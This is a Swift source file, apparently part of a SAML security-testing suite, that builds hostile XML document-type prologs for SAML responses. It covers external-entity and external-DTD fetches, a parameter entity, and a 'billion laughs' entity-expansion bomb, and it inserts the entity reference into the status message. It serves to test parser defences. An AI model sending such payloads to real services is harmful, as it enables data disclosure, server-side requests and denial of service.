import SuiteLanguage

/// A document type before the message, and the reference to its entity in the message of the status.
struct DocumentTypeAttack {
  let prolog: String
  /// The name of the entity that the message refers to; nil where the document type alone is the attack.
  let entity: String?
  /// The entity that takes its place where it is checked that the message is well-formed: parsers refuse the reference
  /// itself as an attack.
  private(set) var harmlessEntity: String?

  /// The levels of entities, each ten times the one before: ten thousand million characters.
  private static let levels = 10

  /// - Parameter address: what the document type fetches, where it fetches anything.
  init(_ kind: SAMLDocumentType, address: String) throws(SAMLError) {
    let root = "samlp:Response"
    guard !address.contains(where: { "\"'%&<>".contains($0) || $0.isWhitespace }) else {
      throw .deviation("\(address) cannot stand in a document type")
    }
    switch kind {
    case .externalEntity:
      prolog = "<!DOCTYPE \(root) [<!ENTITY outside SYSTEM \"\(address)\">]>\n"
      entity = "outside"
    case .externalDTD:
      prolog = "<!DOCTYPE \(root) SYSTEM \"\(address)\">\n"
      entity = nil
    case .parameterEntity:
      prolog = "<!DOCTYPE \(root) [<!ENTITY % outside SYSTEM \"\(address)\"> %outside;]>\n"
      entity = nil
    case .entityExpansion:
      let declarations = (1..<Self.levels).map { level in
        "<!ENTITY e\(level) \"\(String(repeating: "&e\(level - 1);", count: 10))\">"
      }
      prolog = "<!DOCTYPE \(root) [<!ENTITY e0 \"0123456789\">\(declarations.joined())]>\n"
      entity = "e\(Self.levels - 1)"
      harmlessEntity = "e0"
    case .plain:
      prolog = "<!DOCTYPE \(root)>\n"
      entity = nil
    }
  }

  /// The message with the harmless entity instead.
  func harmless(_ text: String) -> String {
    guard let entity, let harmlessEntity else { return text }
    return text.replacing("&\(entity);</samlp", with: "&\(harmlessEntity);</samlp")
  }

  /// Puts the reference into `samlp:StatusMessage`, which any response may have.
  func refer(in response: inout XMLElement) {
    guard let entity else { return }
    response.change(.protocols, "Status") { status in
      status.insert(XMLElement(.protocols, "StatusMessage", [], [.entity(entity)]), after: .protocols, "StatusCode")
    }
  }
}
